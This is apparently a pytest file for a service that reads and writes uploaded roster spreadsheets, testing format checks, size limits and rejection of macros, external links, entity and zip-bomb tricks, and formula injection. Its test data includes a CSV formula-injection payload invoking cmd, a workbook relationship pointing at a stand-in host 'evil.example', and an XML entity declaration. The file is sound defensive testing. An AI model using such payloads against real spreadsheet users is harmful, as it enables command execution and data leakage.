"""Tables that people upload, read without trust, and written without formulas.

Holds ROST-01, ROST-02, ROST-03, ROST-04 and ROST-05.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable, Sequence
from datetime import date, datetime
from typing import Any

import openpyxl
import pytest

from services.kit.domain import DomainError, Kind
from services.kit.sheets import SheetRow, read_sheet, safe, write_csv, write_xlsx

COLUMNS = ("姓名", "手机号", "日期")
MOST_BYTES = 64 * 1024


def read(file: bytes, name: str = "名单.xlsx", *, most_rows: int = 50, most_bytes: int = MOST_BYTES) -> list[SheetRow]:
    return read_sheet(file, name, columns=COLUMNS, most_rows=most_rows, most_bytes=most_bytes)


def workbook(rows: Sequence[Sequence[Any]], headings: Sequence[Any] = COLUMNS, **links: str) -> bytes:
    book = openpyxl.Workbook()
    sheet: Any = book.active
    sheet.append(list(headings))
    for row in rows:
        sheet.append(list(row))
    for cell, target in links.items():
        sheet[cell].hyperlink = target
    written = io.BytesIO()
    book.save(written)
    return written.getvalue()


def repacked(file: bytes, change: Callable[[dict[str, bytes]], object]) -> bytes:
    """The workbook with its parts changed."""
    with zipfile.ZipFile(io.BytesIO(file)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


def refused(file: bytes, name: str = "名单.xlsx", **limits: int) -> DomainError:
    with pytest.raises(DomainError) as caught:
        read(file, name, **limits)
    assert (caught.value.kind, caught.value.field) == (Kind.INVALID, "file")
    return caught.value


GOOD = workbook([["王芳", "13800138000", "2024-03"]])
CSV = "姓名,手机号,日期\r\n王芳,13800138000,2024-03\r\n"


@pytest.mark.parametrize(
    ("file", "name"),
    [
        (GOOD, "名单.xlsx"),
        (GOOD, "名单.XLSX"),
        (CSV.encode(), "名单.csv"),
        (CSV.encode("utf-8-sig"), "名单.csv"),
        (CSV.encode("gb18030"), "名单.csv"),
        (workbook([[" 王芳　", 13800138000, "2024-03"]]), "a.xlsx"),
        (workbook([["王芳", 13800138000.0, "2024-03"]], ["姓名 *", "手 机 号", "日期＊"]), "a.xlsx"),
        (workbook([["2024-03", "王芳", "13800138000"]], ["日期", "姓名", "手机号"]), "a.xlsx"),
        (workbook([["王芳", "13800138000", "2024-03"]], B2="mailto:a@b.cn"), "a.xlsx"),
    ],
)
def test_rost_01_workbooks_and_csv_in_the_encodings_people_have(file: bytes, name: str) -> None:
    [row] = read(file, name)
    assert (row.number, dict(row.cells), row.inexact) == (
        *(2, {"姓名": "王芳", "手机号": "13800138000", "日期": "2024-03"}, frozenset()),
    )


def test_rost_01_rows_keep_their_numbers_and_blank_ones_are_left_out() -> None:
    rows = read(workbook([["甲", "", ""], [None, None, None], ["", " ", ""], ["乙", "1", ""]]))
    assert [(row.number, row.cells["姓名"]) for row in rows] == [(2, "甲"), (5, "乙")]
    rows = read('姓名,手机号,日期\n"甲\n乙",1,\n\n丙,2\n'.encode(), "a.csv")
    assert [(row.number, row.cells["姓名"], row.cells["日期"]) for row in rows] == [(2, "甲\n乙", ""), (4, "丙", "")]


def test_rost_01_days_and_numbers_are_text_and_lost_digits_are_told() -> None:
    a_day = datetime(2024, 3, 1)  # noqa: DTZ001  (a workbook knows no zones)
    [row] = read(workbook([[110101199003077993, a_day, date(2024, 2, 29)]]))
    assert (row.cells["手机号"], row.cells["日期"], row.inexact) == ("2024-03-01", "2024-02-29", frozenset({"姓名"}))
    [row] = read(workbook([[123456789012345, 1.5, True]]))
    assert (dict(row.cells), row.inexact) == (
        *({"姓名": "123456789012345", "手机号": "1.5", "日期": "是"}, frozenset()),
    )


@pytest.mark.parametrize(
    ("file", "name", "reason"),
    [
        (GOOD, "名单.csv", "SHEET_FORMAT"),
        (CSV.encode(), "名单.xlsx", "SHEET_FORMAT"),
        (CSV.encode(), "名单.txt", "SHEET_FORMAT"),
        (CSV.encode(), "xlsx", "SHEET_FORMAT"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "名单.xls", "SHEET_FORMAT"),
        (GOOD[: len(GOOD) // 2], "名单.xlsx", "SHEET_UNREADABLE"),
        (b"PK\x03\x04" + bytes(100), "名单.xlsx", "SHEET_UNREADABLE"),
        (repacked(GOOD, lambda parts: parts.pop("xl/workbook.xml")), "名单.xlsx", "SHEET_UNREADABLE"),
        (
            repacked(GOOD, lambda parts: parts.update({"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row"})),
            *("名单.xlsx", "SHEET_UNREADABLE"),
        ),
        ('姓名,手机号,日期\n"王芳,1,\n'.encode(), "名单.csv", "SHEET_UNREADABLE"),
        (CSV.encode() + b"\x00", "名单.csv", "SHEET_UNREADABLE"),
        (b"\xff\xff\xff", "名单.csv", "SHEET_UNREADABLE"),
        (workbook([]), "名单.xlsx", "SHEET_EMPTY"),
        (workbook([["", None, " "]]), "名单.xlsx", "SHEET_EMPTY"),
        ("姓名,手机号,日期\n".encode(), "名单.csv", "SHEET_EMPTY"),
    ],
)
def test_rost_01_anything_else_is_refused(file: bytes, name: str, reason: str) -> None:
    error = refused(file, name)
    assert (error.reason, error.rule) == (reason, "ROST-01")


@pytest.mark.parametrize(("rows", "most", "fits"), [(5, 5, True), (6, 5, False)])
def test_rost_01_no_more_rows_than_allowed(rows: int, most: int, fits: bool) -> None:
    file = workbook([["王芳", str(n), ""] for n in range(rows)])
    if fits:
        assert len(read(file, most_rows=most)) == rows
    else:
        assert refused(file, most_rows=most).reason == "SHEET_TOO_LONG"


def test_rost_01_no_more_bytes_than_allowed() -> None:
    assert read(GOOD, most_bytes=len(GOOD))
    assert refused(GOOD, most_bytes=len(GOOD) - 1).reason == "SHEET_TOO_LARGE"


def _macro(parts: dict[str, bytes]) -> None:
    parts["xl/vbaProject.bin"] = b"\xd0\xcf"


def _macro_type(parts: dict[str, bytes]) -> None:
    types = parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = types.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")


def _rels(target: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + target
        parts["xl/worksheets/_rels/sheet1.xml.rels"] = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="r1" Type="' + kind + b'" Target="http://evil.example/x" TargetMode="External"/>'
            b"</Relationships>"
        )

    return change


def _entity(parts: dict[str, bytes]) -> None:
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = b'<!DOCTYPE a [<!ENTITY b "c">]>' + sheet


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (_macro, "SHEET_MACROS"),
        (_macro_type, "SHEET_MACROS"),
        (lambda parts: parts.update({"xl/macrosheets/sheet1.xml": b"<a/>"}), "SHEET_MACROS"),
        (lambda parts: parts.update({"xl/externalLinks/externalLink1.xml": b"<a/>"}), "SHEET_EXTERNAL"),
        (lambda parts: parts.update({"xl/embeddings/oleObject1.bin": b"x"}), "SHEET_EXTERNAL"),
        (lambda parts: parts.update({"xl/connections.xml": b"<a/>"}), "SHEET_EXTERNAL"),
        (_rels(b"oleObject"), "SHEET_EXTERNAL"),
        (_rels(b"attachedTemplate"), "SHEET_EXTERNAL"),
        (_entity, "SHEET_BOMB"),
        (lambda parts: parts.update({"xl/media/a.bin": bytes(8 * 1024 * 1024)}), "SHEET_BOMB"),
        (lambda parts: parts.update({f"xl/media/{n}.bin": b"" for n in range(500)}), "SHEET_BOMB"),
    ],
)
def test_rost_02_nothing_in_it_runs_links_or_unfolds(change: Callable[[dict[str, bytes]], object], reason: str) -> None:
    error = refused(repacked(GOOD, change))
    assert (error.reason, error.rule) == (reason, "ROST-02")


def test_rost_02_a_locked_file_and_a_macro_name_are_refused() -> None:
    locked = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512) + "EncryptedPackage".encode("utf-16-le")
    assert refused(locked, "名单.xlsx").reason == "SHEET_ENCRYPTED"
    assert refused(GOOD, "名单.xlsm").reason == "SHEET_MACROS"


def test_rost_02_a_size_that_a_sheet_claims_is_not_believed() -> None:
    def claims(parts: dict[str, bytes]) -> None:
        sheet = parts["xl/worksheets/sheet1.xml"]
        parts["xl/worksheets/sheet1.xml"] = sheet.replace(b'ref="A1:C2"', b'ref="A1:XFD1048576"')

    assert len(read(repacked(GOOD, claims))) == 1


def test_rost_01_a_row_far_away_ends_the_reading() -> None:
    def far(parts: dict[str, bytes]) -> None:
        sheet = parts["xl/worksheets/sheet1.xml"]
        parts["xl/worksheets/sheet1.xml"] = sheet.replace(b'<row r="2"', b'<row r="99999999999"')

    assert refused(repacked(GOOD, far)).reason == "SHEET_TOO_LONG"


def test_rost_01_blank_rows_without_end_are_not_read_to_their_end() -> None:
    def blank(parts: dict[str, bytes]) -> None:
        rows = b"".join(b'<row r="%d"/>' % n for n in range(3, 200_000))
        sheet = parts["xl/worksheets/sheet1.xml"]
        parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"</sheetData>", rows + b"</sheetData>")

    file = repacked(GOOD, blank)
    assert refused(file, most_bytes=len(file)).reason == "SHEET_TOO_LONG"


@pytest.mark.parametrize(
    ("file", "name", "cell"),
    [
        (workbook([["王芳", "=1+1", ""]]), "a.xlsx", "B2"),
        (workbook([["王芳", "1", ""], ["甲", "2", "", "", '=HYPERLINK("http://a")']]), "a.xlsx", "E3"),
        (workbook([["王芳", "1", ""]], ["姓名", "手机号", "=1"]), "a.xlsx", "C1"),
        ("姓名,手机号,日期\n王芳,=1+1,\n".encode(), "a.csv", "B2"),
        ("姓名,手机号,日期\n王芳,1,\n@SUM(A1),1,\n".encode(), "a.csv", "A3"),
        ("姓名,手机号,日期\n王芳,\"+cmd|' /C calc'!A0\",\n".encode(), "a.csv", "B2"),
        ("姓名,手机号,日期\n王芳,1,-A1\n".encode(), "a.csv", "C2"),
    ],
)
def test_rost_03_a_formula_is_refused_by_its_cell(file: bytes, name: str, cell: str) -> None:
    error = refused(file, name)
    assert (error.reason, error.rule, error.details) == ("SHEET_FORMULA", "ROST-03", {"cell": cell})
    assert cell in error.message


@pytest.mark.parametrize("text", ["+86 138-0013-8000", "-", "-1", "a=b", "1@2.cn"])
def test_rost_03_what_people_write_is_no_formula(text: str) -> None:
    [row] = read(f"姓名,手机号,日期\n王芳,{text},\n".encode(), "a.csv")
    assert row.cells["手机号"] == text


@pytest.mark.parametrize(
    ("headings", "said"),
    [
        (["姓名", "手机号"], "日期"),
        (["姓名", "手机号", "日期", "姓名"], "姓名"),
        (["姓名", "手机号", "日期", "备注"], "1个"),
        (["甲", "乙", "丙"], "姓名、手机号、日期"),
    ],
)
def test_rost_04_headings_are_those_of_the_template(headings: list[str], said: str) -> None:
    for file, name in (
        (workbook([["王芳"] * len(headings)], headings), "a.xlsx"),
        ((",".join(headings) + "\n王芳\n").encode(), "a.csv"),
    ):
        error = refused(file, name)
        assert (error.reason, error.rule) == ("SHEET_HEADINGS", "ROST-04")
        assert said in error.message


RISKY = ["=1+1", "+1", "-1", "@a", "\t=1", "　=1", "＝1"]


def test_rost_05_what_is_written_is_text_to_every_spreadsheet() -> None:
    rows: list[list[str | float]] = [[text, "张三", 3.5] for text in RISKY]
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx(["甲", "=乙", "丙"], rows, second_sheet=("说明", [["=1"]]))))
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            assert all(cell.data_type in ("s", "n") for cell in line)
    assert book.worksheets[0]["C2"].value == 3.5
    lines = list(csv.reader(io.StringIO(write_csv(["甲", "乙", "丙"], rows).decode("utf-8-sig"))))
    assert all(line[0].startswith("'") for line in lines[1:])
    assert safe("张三") == "张三"


def test_rost_05_an_empty_list_that_was_filled_in_is_read_again() -> None:
    for file, name in (
        (write_xlsx(COLUMNS, [["王芳", "1", ""]]), "a.xlsx"),
        (write_csv(COLUMNS, [["王芳", "1", ""]]), "a.csv"),
    ):
        assert dict(read(file, name)[0].cells) == {"姓名": "王芳", "手机号": "1", "日期": ""}
